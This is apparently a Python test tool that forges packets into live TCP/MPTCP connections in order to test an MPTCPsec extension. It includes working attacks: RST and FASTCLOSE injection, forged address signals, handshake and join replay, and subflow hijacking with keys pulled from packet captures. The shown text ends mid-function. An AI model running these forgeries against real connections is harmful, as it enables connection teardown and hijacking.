#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge segments into a live TCP/MPTCP connection, for the VM tests.

  forge.py --iface IF --attack ATTACK [--dport P] [--sport P] [--src ADDR]
           [--dst ADDR] [--count N] [--timeout S] [--len N] [--delay S]
           [--interval S] [--direction out|any] [--pcap FILE]
           [--secopt none|copy|fresh|random] [--fresh-pn]
           [attack options, below]
  forge.py --attack keys --pcap FILE
  forge.py serve DIR READY

Sniffs IF (kernel BPF filter, stops at the first suitable segment) for a
TCP segment of the connection selected by the ports and addresses, learns
addresses, ports, seq and ack from it, and sends segments that a stack
without MPTCPsec would accept: in-window at the next expected sequence
number, the right acknowledgment number, valid IP and TCP checksums.

Attacks on the data path:
  payload   random bytes at the next sequence number, the captured options
            copied (an MPTCPsec option among them keeps its stale tag);
            with --count the following ones continue the stream
  rst       RST+ACK exactly at the receiver's rcv_nxt
  fin       FIN+ACK at the next sequence number, non-MPTCP options copied
  datafin   an ACK with a DSS option carrying DATA_FIN after the captured
            mapping (waits for a segment with a DSS mapping)
  fastclose RST+ACK with MP_FASTCLOSE carrying --key: random (default),
            pcap (the receiver's key as recorded in --pcap) or 16 hex digits
  replay    the captured segment again, byte for byte
  strip     the captured segment with its kind-253 option made NOPs
  bitflip   the captured segment with one payload bit flipped (waits for a
            segment with payload)

MPTCP signals (RFC 8684), each an ACK (tcprst: RST+ACK) at the next
sequence number with the captured acknowledgment number, carrying only the
signal and the kind-253 option that --secopt selects:
  addaddr       ADD_ADDR announcing --addr (IPv4 or IPv6) with address ID
                --addr-id, port --addr-port (0: none), and a truncated HMAC:
                --hmac random (default) or pcap, HMAC-SHA256 keyed by the
                sender's and the receiver's keys as recorded in --pcap (an
                eavesdropper's best guess; RFC 8684 section 3.4.1)
  addaddr-echo  the same without HMAC, echo flag set
  rmaddr        REMOVE_ADDR of the address IDs --ids (comma separated)
  prio          MP_PRIO with the backup flag --backup
  fail          MP_FAIL with the captured mapping's data sequence number
  tcprst        RST+ACK with MP_TCPRST (transient flag, reason --reason)
--secopt: none (default): no kind-253 option; copy: the captured
segment's MPTCPsec option (a packet number already seen, stale tag);
fresh: the captured option with its packet number moved 8192 + N ahead
(key phase kept) and a random tag; random: packet number 1-8191, key
phase 0, random tag. copy and fresh wait for a segment that carries one.
--fresh-pn: before any attack is built, the captured segment's MPTCPsec
option has its packet number moved 8192 ahead (key phase and tag kept):
every forgery then carries a packet number the receiver has not seen, so
it is dropped for its tag (an authentication failure), not as a replay.
Waits for a segment that carries the option.

Joins and recordings (the recorded-handshake attacker of RFC 7430,
section 5, needs only what a capture shows):
  join-syn     a SYN from --from ADDR (source port --from-port, default
               random per SYN) to the captured segment's destination with
               MP_JOIN: token --token (8 hex digits, or pcap: the token of
               the receiver's key as recorded in --pcap), a random nonce,
               address ID --addr-id, backup flag --backup; kind-253 option
               per --secopt (none or random). With --reply-wait S, waits
               for the answer to each SYN on IF (reported as "reply"); with
               --complete, answers a SYN-ACK with the MP_JOIN third ACK,
               HMAC from the keys in --pcap ("synack_hmac_ok" tells
               whether the SYN-ACK's HMAC matched those keys)
  join-replay  the first MP_JOIN SYN recorded in --pcap (matching the port
               and address filters), sent again as recorded, or from
               --from ADDR and/or a fresh source port with --new-port
  hs-replay    the recorded MP_CAPABLE handshake of --pcap (SYN, SYN-ACK,
               third ACK, first data segment: those of --stages, default
               syn,synack,ack,data, that match the filters), each segment
               --count times, as recorded
  keys         no sending: the MP_CAPABLE keys recorded in --pcap, with the
               tokens (first 32 bits of SHA-256(key)) and IDSNs (last 64
               bits) they imply, one JSON object {"conns": [...]}; exit 1
               when no connection with both keys was recorded
--pcap reads classic pcap files (tcpdump -w; Ethernet, Linux cooked v1/v2,
raw IP). join-replay and hs-replay send the recorded frames out of IF, so
record them on an Ethernet interface and send from the recording side of
the segment's direction (a segment towards the server out of the client's
interface, a SYN-ACK out of the server's).

Frames go out of IF through an AF_PACKET socket, below netfilter, so no hook
of the sending host sees them: sniff on an interface that the targeted
segments leave by (only those are taken unless --direction any), e.g. the
client's interface with --dport SERVER_PORT to attack the server. Segments
larger than the interface MTU (GSO) are skipped.

Output: one JSON line per segment sent, then {"sent": N, "attack": ...}.
Exit status 0 when something was sent, 1 when no suitable segment was seen
before the timeout (or nothing suitable was recorded), 2 on a usage error.

serve DIR READY: for tests that forge many times (importing scapy alone
takes seconds under emulation): creates DIR/READY once loaded, then reads
lines "NAME ARGS..." from stdin, runs forge.py with ARGS for each and
leaves its stdout, stderr and exit status in DIR/NAME.out, .err and .rc
(.rc last, atomically); prints "NAME rc N in S s" per run.
"""

import argparse
import hashlib
import hmac
import json
import os
import random
import select
import shlex
import socket
import struct
import sys
import time

from scapy.arch.linux import attach_filter

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
ARPHRD_ETHER = 1
ARPHRD_LOOPBACK = 772

TCPOPT_MPTCP = 30
TCPOPT_EXP = 253
SECOPT_EXID = 0x4D53

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

# MPTCP suboption subtypes (RFC 8684)
MPC, MPJ, DSS, ADD_ADDR, RM_ADDR, MP_PRIO, MP_FAIL, MP_FASTCLOSE, MP_TCPRST = range(9)

SIGNALS = ("addaddr", "addaddr-echo", "rmaddr", "prio", "fail", "tcprst")
FROM_PCAP = ("join-replay", "hs-replay")

DSS_A, DSS_a, DSS_M, DSS_m, DSS_F = 0x01, 0x02, 0x04, 0x08, 0x10


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def flag_str(f):
    return "".join(c for c, b in zip("FSRPAUEC", range(8)) if f & (1 << b))


class Segment:
    """A captured frame cut into L2 header, IP header(s), TCP header, payload."""

    def __init__(self, frame, l2len):
        self.frame = frame
        self.l2 = frame[:l2len]
        ip = frame[l2len:]
        ver = ip[0] >> 4 if ip else 0
        if ver == 4:
            ihl = (ip[0] & 0x0F) * 4
            tot = struct.unpack("!H", ip[2:4])[0]
            if ihl < 20 or tot < ihl or ip[9] != 6 or struct.unpack("!H", ip[6:8])[0] & 0x1FFF:
                raise ValueError("not a first-fragment IPv4 TCP packet")
            self.family = 4
            self.iphdr = ip[:ihl]
            self.src, self.dst = ip[12:16], ip[16:20]
            self.ip_len = tot
            l4 = ip[ihl:tot]
        elif ver == 6:
            tot = 40 + struct.unpack("!H", ip[4:6])[0]
            nh, off = ip[6], 40
            while nh != 6:
                if nh in (0, 43, 60):
                    hl = (ip[off + 1] + 1) * 8
                elif nh == 44:
                    if struct.unpack("!H", ip[off + 2:off + 4])[0] & 0xFFF8:
                        raise ValueError("IPv6 fragment")
                    hl = 8
                else:
                    raise ValueError("IPv6 without TCP")
                nh, off = ip[off], off + hl
            self.family = 6
            self.iphdr = ip[:off]
            self.src, self.dst = ip[8:24], ip[24:40]
            self.ip_len = tot
            l4 = ip[off:tot]
        else:
            raise ValueError("not IP")
        if len(l4) < 20 or len(ip) < tot:
            raise ValueError("truncated")
        doff = (l4[12] >> 4) * 4
        if doff < 20 or doff > len(l4):
            raise ValueError("bad TCP header")
        self.tcp = l4[:doff]
        self.opts = l4[20:doff]
        self.payload = l4[doff:]
        (self.sport, self.dport, self.seq, self.ack, _, self.flags,
         self.window, self.tcp_csum, self.urg) = struct.unpack("!HHIIBBHHH", l4[:20])

    def addr(self, a):
        return socket.inet_ntop(socket.AF_INET if self.family == 4 else socket.AF_INET6, a)

    def next_seq(self):
        return (self.seq + len(self.payload) + bool(self.flags & SYN) +
                bool(self.flags & FIN)) & 0xFFFFFFFF

    def summary(self):
        return {"family": self.family, "src": self.addr(self.src), "sport": self.sport,
                "dst": self.addr(self.dst), "dport": self.dport, "seq": self.seq,
                "ack": self.ack, "flags": flag_str(self.flags), "len": len(self.payload),
                "secopt": find_secopt(self.opts) is not None,
                "dss": parse_dss(self.opts) is not None}


def walk_opts(opts):
    """(offset, kind, length) of every option; stops at EOL or garbage."""
    i, out = 0, []
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2 or i + opts[i + 1] > len(opts):
            break
        out.append((i, kind, opts[i + 1]))
        i += opts[i + 1]
    return out


def find_secopt(opts):
    for off, kind, ln in walk_opts(opts):
        if kind == TCPOPT_EXP and ln >= 4 and struct.unpack("!H", opts[off + 2:off + 4])[0] == SECOPT_EXID:
            return off, ln
    return None


def move_pn(seg, delta):
    """Move the PN of seg's MPTCPsec option delta ahead, key phase kept."""
    found = find_secopt(seg.opts)
    if not found:
        return False
    off = found[0] + 4
    pnf = struct.unpack("!H", seg.opts[off:off + 2])[0]
    pnf = (pnf & 0x8000) | ((pnf + delta) & 0x7FFF)
    opts, tcp = bytearray(seg.opts), bytearray(seg.tcp)
    struct.pack_into("!H", opts, off, pnf)
    struct.pack_into("!H", tcp, 20 + off, pnf)
    seg.opts, seg.tcp = bytes(opts), bytes(tcp)
    return True


def parse_dss(opts):
    for off, kind, ln in walk_opts(opts):
        if kind != TCPOPT_MPTCP or ln < 4 or opts[off + 2] >> 4 != 2:
            continue
        o = opts[off:off + ln]
        fl, p, d = o[3], 4, {"flags": o[3]}
        if fl & DSS_A:
            n = 8 if fl & DSS_a else 4
            d["ack"] = int.from_bytes(o[p:p + n], "big")
            p += n
        if fl & DSS_M:
            n = 8 if fl & DSS_m else 4
            if p + n + 6 > ln:
                return None
            d["dsn"] = int.from_bytes(o[p:p + n], "big")
            d["ssn"], d["dll"] = struct.unpack("!IH", o[p + n:p + n + 6])
            p += n + 6
            d["csum"] = ln >= p + 2
        return d
    return None


def pad_opts(opts):
    return opts + b"\x01" * (-len(opts) % 4)


def tcp_checksum_addrs(family, src, dst, tcp):
    if family == 4:
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    else:
        pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
    return csum(pseudo + tcp[:16] + b"\0\0" + tcp[18:])


def tcp_checksum(seg, tcp):
    return tcp_checksum_addrs(seg.family, seg.src, seg.dst, tcp)


def with_tcp_checksum(seg, tcp):
    tcp = bytearray(tcp)
    struct.pack_into("!H", tcp, 16, tcp_checksum(seg, bytes(tcp)))
    return bytes(tcp)


def ip_header(seg, l4len, id_delta):
    h = bytearray(seg.iphdr)
    if seg.family == 4:
        struct.pack_into("!H", h, 2, len(h) + l4len)
        ipid = (struct.unpack("!H", h[4:6])[0] + id_delta) & 0xFFFF
        struct.pack_into("!H", h, 4, ipid)
        struct.pack_into("!H", h, 10, 0)
        struct.pack_into("!H", h, 10, csum(bytes(h)))
    else:
        struct.pack_into("!H", h, 4, len(h) - 40 + l4len)
    return bytes(h)


def build(seg, seq, ack, flags, opts, payload, id_delta):
    opts = pad_opts(opts)
    if len(opts) > 40:
        raise ValueError("options do not fit")
    tcp = struct.pack("!HHIIBBHHH", seg.sport, seg.dport, seq & 0xFFFFFFFF,
                      ack & 0xFFFFFFFF, (20 + len(opts)) // 4 << 4, flags,
                      seg.window, 0, 0) + opts + payload
    tcp = with_tcp_checksum(seg, tcp)
    return seg.l2 + ip_header(seg, len(tcp), id_delta) + tcp


def rebuild_same(seg, tcp_hdr, payload):
    """The captured packet with a changed TCP part, IP header kept."""
    tcp = with_tcp_checksum(seg, tcp_hdr + payload)
    return seg.l2 + seg.iphdr + tcp


def opts_without_mptcp(opts):
    return b"".join(opts[o:o + ln] for o, k, ln in walk_opts(opts) if k != TCPOPT_MPTCP)


def datafin_opt(d):
    fl = (d["flags"] & (DSS_A | DSS_a | DSS_m)) | DSS_M | DSS_F
    o = b""
    if fl & DSS_A:
        o += d["ack"].to_bytes(8 if fl & DSS_a else 4, "big")
    n = 8 if fl & DSS_m else 4
    dsn = (d["dsn"] + d["dll"]) % (1 << (8 * n))
    o += dsn.to_bytes(n, "big") + struct.pack("!IH", 0, 1)
    if d["csum"]:
        pseudo = dsn.to_bytes(8, "big") + struct.pack("!IHH", 0, 1, 0)
        o += struct.pack("!H", csum(pseudo))
    return bytes([TCPOPT_MPTCP, 4 + len(o), 0x20, fl]) + o, dsn


def fit_opts(first, rest):
    """first, then whichever of the other options still fit in 40 bytes."""
    out = first
    for o, k, ln in walk_opts(rest):
        if len(out) + ln <= 40:
            out += rest[o:o + ln]
    return out


# --- recordings -------------------------------------------------------------

def l2_len(linktype, frame):
    """Length of the link-layer header of a recorded frame, None to skip it."""
    if linktype == 1:                      # Ethernet
        l2 = 14
        while len(frame) >= l2 and struct.unpack("!H", frame[l2 - 2:l2])[0] in (0x8100, 0x88A8):
            l2 += 4
        if len(frame) < l2 or struct.unpack("!H", frame[l2 - 2:l2])[0] not in (0x0800, 0x86DD):
            return None
        return l2
    if linktype == 113:                    # Linux cooked v1
        return 16
    if linktype == 276:                    # Linux cooked v2
        return 20
    if linktype in (101, 12, 14, 228, 229):  # raw IP
        return 0
    raise ValueError("pcap link type %d not supported" % linktype)


def read_pcap(path):
    """(link type, [Segment]) of the TCP segments in a classic pcap file."""
    with open(path, "rb") as f:
        data = f.read()
    magic = data[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        e = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        e = ">"
    else:
        raise ValueError("%s: not a pcap file (pcapng is not supported)" % path)
    if len(data) < 24:
        raise ValueError("%s: truncated pcap header" % path)
    linktype = struct.unpack(e + "I", data[20:24])[0] & 0x0FFFFFFF
    off, segs = 24, []
    while off + 16 <= len(data):
        incl = struct.unpack(e + "I", data[off + 8:off + 12])[0]
        frame = data[off + 16:off + 16 + incl]
        off += 16 + incl
        l2 = l2_len(linktype, frame)
        if l2 is None:
            continue
        try:
            segs.append(Segment(frame, l2))
        except (ValueError, IndexError, struct.error):
            continue
    return linktype, segs


def mptcp_subopts(opts):
    """(subtype, option bytes) of every MPTCP option."""
    return [(opts[o + 2] >> 4, opts[o:o + ln]) for o, k, ln in walk_opts(opts)
            if k == TCPOPT_MPTCP and ln >= 3]


def key_token(key):
    return hashlib.sha256(key).digest()[:4]


def key_idsn(key):
    return hashlib.sha256(key).digest()[-8:]


class MpcConn:
    """What an eavesdropper learns from one recorded MP_CAPABLE handshake."""

    def __init__(self, syn):
        self.family = syn.family
        self.client, self.cport = syn.src, syn.sport
        self.server, self.sport = syn.dst, syn.dport
        self.client_key = self.server_key = None
        self.eno_syn = self.eno_synack = False
        self.stages = {"syn": syn}

    def side(self, addr, port):
        if (addr, port) == (self.client, self.cport):
            return "client"
        if (addr, port) == (self.server, self.sport):
            return "server"
        return None

    def key(self, addr, port):
        return {"client": self.client_key, "server": self.server_key}.get(self.side(addr, port))

    def summary(self):
        syn = self.stages["syn"]
        d = {"family": self.family, "client": syn.addr(self.client), "client_port": self.cport,
             "server": syn.addr(self.server), "server_port": self.sport,
             "eno_syn": self.eno_syn, "eno_synack": self.eno_synack,
             "stages": sorted(self.stages)}
        for who in ("client", "server"):
            k = getattr(self, who + "_key")
            d[who + "_key"] = k.hex() if k else None
            d[who + "_token"] = key_token(k).hex() if k else None
            d[who + "_idsn"] = key_idsn(k).hex() if k else None
        return d


def has_eno(opts):
    return any(k == 69 for o, k, ln in walk_opts(opts))


def mpc_conns(segs):
    """Every MP_CAPABLE handshake recorded in segs, in order of their SYNs."""
    conns, order = {}, []
    for s in segs:
        mpc = [o for st, o in mptcp_subopts(s.opts) if st == MPC]
        if not mpc:
            continue
        o = mpc[0]
        if s.flags & SYN and not s.flags & ACK:
            t = (s.src, s.sport, s.dst, s.dport)
            if t not in conns:
                conns[t] = MpcConn(s)
                conns[t].eno_syn = has_eno(s.opts)
                order.append(conns[t])
            continue
        c = conns.get((s.src, s.sport, s.dst, s.dport)) or conns.get((s.dst, s.dport, s.src, s.sport))
        if c is None:
            continue
        if s.flags & SYN and len(o) >= 12:
            c.stages.setdefault("synack", s)
            c.server_key = c.server_key or o[4:12]
            c.eno_synack = c.eno_synack or has_eno(s.opts)
        elif c.side(s.src, s.sport) == "client" and len(o) >= 20:
            c.client_key = c.client_key or o[4:12]
            c.server_key = c.server_key or o[12:20]
            c.stages.setdefault("data" if s.payload else "ack", s)
    return order


def conn_for(args, seg):
    """The recorded handshake of seg's connection (the only one, or by tuple)."""
    conns = getattr(args, "conns", None) or []
    ends = {(seg.src, seg.sport), (seg.dst, seg.dport)}
    for c in conns:
        if ends == {(c.client, c.cport), (c.server, c.sport)}:
            return c
    if len(conns) == 1:
        return conns[0]
    raise ValueError("--pcap: no recorded MP_CAPABLE handshake of %s:%d -> %s:%d"
                     % (seg.addr(seg.src), seg.sport, seg.addr(seg.dst), seg.dport))


def recorded_keys(args, seg):
    """(sender's key, receiver's key) of seg's connection as recorded."""
    c = conn_for(args, seg)
    sender = c.side(seg.src, seg.sport)
    if sender is None or c.side(seg.dst, seg.dport) is None:
        # a segment of another subflow of the connection (a join from or
        # to another address): by the server's port
        sender = "client" if seg.dport == c.sport else "server"
    ks, kr = (c.client_key, c.server_key) if sender == "client" else \
             (c.server_key, c.client_key)
    if not ks or not kr:
        raise ValueError("--pcap: the recorded handshake lacks a key")
    return ks, kr


def mptcp_hmac(key1, key2, msg):
    """HMAC-SHA256 keyed by key1 || key2, as MPTCP computes it."""
    return hmac.new(key1 + key2, msg, hashlib.sha256).digest()


# --- forged MPTCP options -------------------------------------------------

def addr_bytes(addr):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    return socket.inet_pton(fam, addr)


def addaddr_opt(addr, aid, port, echo, hmac8):
    body = bytes([aid]) + addr + (struct.pack("!H", port) if port else b"") + \
        (b"" if echo else hmac8)
    return bytes([TCPOPT_MPTCP, 3 + len(body), ADD_ADDR << 4 | (1 if echo else 0)]) + body


def addaddr_hmac(ks, kr, addr, aid, port):
    """Truncated ADD_ADDR HMAC: the last 8 bytes (RFC 8684 section 3.4.1)."""
    return mptcp_hmac(ks, kr, bytes([aid]) + addr + struct.pack("!H", port))[-8:]


def secopt_for(seg, mode, k):
    """The kind-253 option a forgery carries, and the mode actually used."""
    if mode == "none":
        return b"", "none"
    found = find_secopt(seg.opts) if mode in ("copy", "fresh") else None
    if mode == "copy":
        off, ln = found
        return seg.opts[off:off + ln], "copy"
    if mode == "fresh":
        off = found[0]
        pnf = struct.unpack("!H", seg.opts[off + 4:off + 6])[0]
        pnf = (pnf & 0x8000) | ((pnf + 8192 + k) & 0x7FFF)
        return struct.pack("!BBHH", TCPOPT_EXP, 14, SECOPT_EXID, pnf) + os.urandom(8), "fresh"
    pnf = random.randrange(1, 8192)
    return struct.pack("!BBHH", TCPOPT_EXP, 14, SECOPT_EXID, pnf) + os.urandom(8), "random"


def signal(seg, attack, args):
    """(TCP flags, MPTCP option, info) of a forged signal."""
    if attack in ("addaddr", "addaddr-echo"):
        if not getattr(args, "addr", None):
            raise ValueError("--addr is required")
        a, aid, port = addr_bytes(args.addr), args.addr_id, args.addr_port
        info = {"addr": args.addr, "addr_id": aid, "addr_port": port}
        if attack == "addaddr-echo":
            return ACK, addaddr_opt(a, aid, port, True, b""), info
        if args.hmac == "pcap":
            mac = addaddr_hmac(*recorded_keys(args, seg), a, aid, port)
        else:
            mac = os.urandom(8)
        info.update(hmac=args.hmac, hmac_value=mac.hex())
        return ACK, addaddr_opt(a, aid, port, False, mac), info
    if attack == "rmaddr":
        ids = [int(x) for x in str(args.ids).split(",") if x != ""]
        if not 1 <= len(ids) <= 8:
            raise ValueError("--ids: 1 to 8 address IDs")
        return ACK, bytes([TCPOPT_MPTCP, 3 + len(ids), RM_ADDR << 4]) + bytes(ids), {"ids": ids}
    if attack == "prio":
        b = 1 if args.backup else 0
        return ACK, bytes([TCPOPT_MPTCP, 3, MP_PRIO << 4 | b]), {"backup": b}
    if attack == "fail":
        d = parse_dss(seg.opts) or {}
        dsn = d.get("dsn", d.get("ack", 0)) & 0xFFFFFFFFFFFFFFFF
        return ACK, bytes([TCPOPT_MPTCP, 12, MP_FAIL << 4, 0]) + dsn.to_bytes(8, "big"), \
            {"fail_dsn": dsn}
    if attack == "tcprst":
        return RST | ACK, bytes([TCPOPT_MPTCP, 4, MP_TCPRST << 4 | 1, args.reason & 0xFF]), \
            {"reason": args.reason & 0xFF}
    raise ValueError(attack)


# --- new segments from an attacker's address -------------------------------

def new_ip_header(family, src, dst, l4len):
    if family == 4:
        h = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + l4len,
                                  random.randrange(65536), 0x4000, 64, 6, 0, src, dst))
        struct.pack_into("!H", h, 10, csum(bytes(h)))
        return bytes(h)
    return struct.pack("!IHBB16s16s", 0x60000000, l4len, 6, 64, src, dst)


def new_segment(seg, src, sport, seq, ack, flags, opts, window=64240):
    """A frame from src:sport to seg's destination, seg's link-layer header."""
    opts = pad_opts(opts)
    if len(opts) > 40:
        raise ValueError("options do not fit")
    tcp = bytearray(struct.pack("!HHIIBBHHH", sport, seg.dport, seq & 0xFFFFFFFF,
                                ack & 0xFFFFFFFF, (20 + len(opts)) // 4 << 4, flags,
                                window, 0, 0) + opts)
    struct.pack_into("!H", tcp, 16, tcp_checksum_addrs(seg.family, src, seg.dst, bytes(tcp)))
    return seg.l2 + new_ip_header(seg.family, src, seg.dst, len(tcp)) + bytes(tcp)


def join_token(seg, args):
    if args.token == "pcap":
        return key_token(recorded_keys(args, seg)[1])
    t = bytes.fromhex(args.token or "")
    if len(t) != 4:
        raise ValueError("--token: 8 hex digits or pcap")
    return t


def join_syn(seg, k, args, mtu):
    if not getattr(args, "from_addr", None):
        raise ValueError("--from is required")
    src = addr_bytes(args.from_addr)
    if len(src) != len(seg.src):
        raise ValueError("--from: not of the connection's address family")
    sport = args.from_port or random.randrange(32768, 61000)
    isn, nonce, token = random.getrandbits(32), os.urandom(4), join_token(seg, args)
    mss = mtu - (40 if seg.family == 4 else 60)
    opts = struct.pack("!BBH", 2, 4, mss) + b"\x01\x01\x04\x02" + b"\x01\x03\x03\x07" + \
        bytes([TCPOPT_MPTCP, 12, MPJ << 4 | (1 if args.backup else 0), args.addr_id]) + \
        token + nonce
    sec, mode = secopt_for(seg, "random" if args.secopt != "none" else "none", k)
    frame = new_segment(seg, src, sport, isn, 0, SYN, opts + sec)
    return frame, {"from": args.from_addr, "from_port": sport, "token": token.hex(),
                   "nonce": nonce.hex(), "isn": isn, "secopt": mode}


def join_ack(seg, syn_info, synack, args):
    """The MP_JOIN third ACK answering synack, HMAC from the recorded keys."""
    ks, kr = recorded_keys(args, seg)
    mpj = [o for st, o in mptcp_subopts(synack.opts) if st == MPJ and len(o) == 16]
    if not mpj:
        return None, {"error": "SYN-ACK without MP_JOIN"}
    thmac, nonce_b = mpj[0][4:12], mpj[0][12:16]
    nonce_a = bytes.fromhex(syn_info["nonce"])
    ok = mptcp_hmac(kr, ks, nonce_b + nonce_a)[:8] == thmac
    mac = mptcp_hmac(ks, kr, nonce_a + nonce_b)[:20]
    opt = bytes([TCPOPT_MPTCP, 24, MPJ << 4, 0]) + mac
    frame = new_segment(seg, addr_bytes(args.from_addr), syn_info["from_port"],
                        syn_info["isn"] + 1, synack.seq + 1, ACK, opt)
    return frame, {"synack_hmac_ok": ok, "nonce_b": nonce_b.hex()}


def replay_from(seg, src, sport):
    """A recorded segment again, from another source address and/or port."""
    ip = bytearray(seg.iphdr)
    if seg.family == 4:
        ip[12:16] = src
        struct.pack_into("!H", ip, 10, 0)
        struct.pack_into("!H", ip, 10, csum(bytes(ip[:(ip[0] & 0x0F) * 4])))
    else:
        ip[8:24] = src
    tcp = bytearray(seg.tcp + seg.payload)
    struct.pack_into("!H", tcp, 0, sport)
    struct.pack_into("!H", tcp, 16, tcp_checksum_addrs(seg.family, src, seg.dst, bytes(tcp)))
    return seg.l2 + bytes(ip) + bytes(tcp)


def recorded_segments(args):
    """The recorded segments join-replay or hs-replay sends, with their stage."""
    def match(s):
        return ((args.sport is None or s.sport == args.sport) and
                (args.dport is None or s.dport == args.dport) and
                (not args.src or s.addr(s.src) == args.src) and
                (not args.dst or s.addr(s.dst) == args.dst))
    if args.attack == "join-replay":
        for s in args.recorded:
            if s.flags & (SYN | ACK) == SYN and match(s) and \
               any(st == MPJ and len(o) == 12 for st, o in mptcp_subopts(s.opts)):
                return [(s, "join-syn")]
        return []
    stages = str(getattr(args, "stages", None) or "syn,synack,ack,data").split(",")
    for c in args.conns:
        segs = [(c.stages[st], st) for st in ("syn", "synack", "ack", "data")
                if st in stages and st in c.stages and match(c.stages[st])]
        if segs:
            return segs
    return []


def forge(seg, attack, k, args, mtu):
    """Return (frame, info) for the k-th forged segment."""
    nxt = seg.next_seq()
    hdr_room = mtu - len(seg.iphdr) - 20 - len(pad_opts(seg.opts))
    if attack == "payload":
        n = args.len or len(seg.payload) or 64
        n = max(1, min(n, hdr_room))
        frame = build(seg, nxt + k * n, seg.ack, (seg.flags & (ACK | PSH)) | ACK,
                      seg.opts, os.urandom(n), k + 1)
        return frame, {"seq": (nxt + k * n) & 0xFFFFFFFF, "len": n}
    if attack == "rst":
        return build(seg, nxt, seg.ack, RST | ACK, b"", b"", k + 1), {"seq": nxt}
    if attack == "fin":
        return build(seg, nxt, seg.ack, FIN | ACK, opts_without_mptcp(seg.opts), b"",
                     k + 1), {"seq": nxt}
    if attack == "datafin":
        opt, dsn = datafin_opt(parse_dss(seg.opts))
        frame = build(seg, nxt, seg.ack, ACK, fit_opts(opt, opts_without_mptcp(seg.opts)),
                      b"", k + 1)
        return frame, {"seq": nxt, "data_fin_dsn": dsn}
    if attack == "fastclose":
        want = getattr(args, "key", None) or "random"
        if want == "random":
            key = os.urandom(8)
        elif want == "pcap":
            key = recorded_keys(args, seg)[1]
        else:
            key = bytes.fromhex(want)
            if len(key) != 8:
                raise ValueError("--key: random, pcap or 16 hex digits")
        opt = bytes([TCPOPT_MPTCP, 12, 0x70, 0]) + key
        return build(seg, nxt, seg.ack, RST | ACK, opt, b"", k + 1), {"seq": nxt,
                                                                     "key": key.hex()}
    if attack == "replay":
        return rebuild_same(seg, seg.tcp, seg.payload), {"seq": seg.seq, "len": len(seg.payload)}
    if attack == "strip":
        tcp = bytearray(seg.tcp)
        found = find_secopt(seg.opts)
        if found:
            off, ln = found
            tcp[20 + off:20 + off + ln] = b"\x01" * ln
        return rebuild_same(seg, bytes(tcp), seg.payload), {"seq": seg.seq,
                                                           "stripped": ln if found else 0}
    if attack == "bitflip":
        p = bytearray(seg.payload)
        bit = random.randrange(len(p) * 8)
        p[bit // 8] ^= 1 << (bit % 8)
        return rebuild_same(seg, seg.tcp, bytes(p)), {"seq": seg.seq, "bit": bit}
    if attack in SIGNALS:
        flags, opt, info = signal(seg, attack, args)
        sec, mode = secopt_for(seg, getattr(args, "secopt", "none"), k)
        info.update(seq=nxt, secopt=mode)
        return build(seg, nxt, seg.ack, flags, opt + sec, b"", k + 1), info
    if attack == "join-syn":
        return join_syn(seg, k, args, mtu)
    if attack == "join-replay":
        src = addr_bytes(args.from_addr) if getattr(args, "from_addr", None) else seg.src
        if len(src) != len(seg.src):
            raise ValueError("--from: not of the connection's address family")
        sport = random.randrange(32768, 61000) if getattr(args, "new_port", False) else seg.sport
        return replay_from(seg, src, sport), {"seq": seg.seq, "from_port": sport,
                                              "from": seg.addr(src)}
    if attack == "hs-replay":
        return rebuild_same(seg, seg.tcp, seg.payload), {"seq": seg.seq, "len": len(seg.payload)}
    raise ValueError(attack)


def suitable(seg, attack, args=None):
    if seg.flags & (SYN | RST):
        return False
    if attack == "bitflip":
        return len(seg.payload) > 0
    if attack == "datafin":
        d = parse_dss(seg.opts)
        return d is not None and "dsn" in d
    if (attack in SIGNALS and getattr(args, "secopt", "none") in ("copy", "fresh")) or \
            getattr(args, "fresh_pn", False):
        return find_secopt(seg.opts) is not None
    return True


def bpf_filter(args):
    f = ["tcp"]
    if args.sport is not None:
        f.append("src port %d" % args.sport)
    if args.dport is not None:
        f.append("dst port %d" % args.dport)
    if args.src:
        f.append("src host %s" % args.src)
    if args.dst:
        f.append("dst host %s" % args.dst)
    return " and ".join(f)


def cmd_keys(args):
    try:
        _, segs = read_pcap(args.pcap)
    except (OSError, ValueError) as e:
        print("forge.py: %s" % e, file=sys.stderr)
        return 2
    conns = [c.summary() for c in mpc_conns(segs)]
    print(json.dumps({"conns": conns, "segments": len(segs)}))
    return 0 if any(c["client_key"] and c["server_key"] for c in conns) else 1


def sniff_one(sock, args, mtu, skipped):
    """The first suitable segment seen before the timeout, or None."""
    end = time.monotonic() + args.timeout
    while True:
        left = end - time.monotonic()
        if left <= 0 or not select.select([sock], [], [], left)[0]:
            return None
        frame, sa = sock.recvfrom(1 << 18)
        pkttype, hatype = sa[2], sa[3]
        if args.direction == "out" and pkttype != PACKET_OUTGOING:
            skipped["inbound"] += 1
            continue
        if hatype not in (ARPHRD_ETHER, ARPHRD_LOOPBACK) or len(frame) < 14:
            skipped["unparsed"] += 1
            continue
        l2 = 14
        while struct.unpack("!H", frame[l2 - 2:l2])[0] in (0x8100, 0x88A8) and len(frame) >= l2 + 4:
            l2 += 4
        try:
            cand = Segment(frame, l2)
        except (ValueError, IndexError, struct.error):
            skipped["unparsed"] += 1
            continue
        if (args.sport is not None and cand.sport != args.sport) or \
           (args.dport is not None and cand.dport != args.dport):
            continue
        if cand.ip_len > mtu:
            skipped["oversize"] += 1
            continue
        if not suitable(cand, args.attack, args):
            skipped["unsuitable"] += 1
            continue
        return cand


def wait_reply(rsock, l2len, info, wait):
    """The first segment to the join SYN's source port within wait seconds."""
    end = time.monotonic() + wait
    while True:
        left = end - time.monotonic()
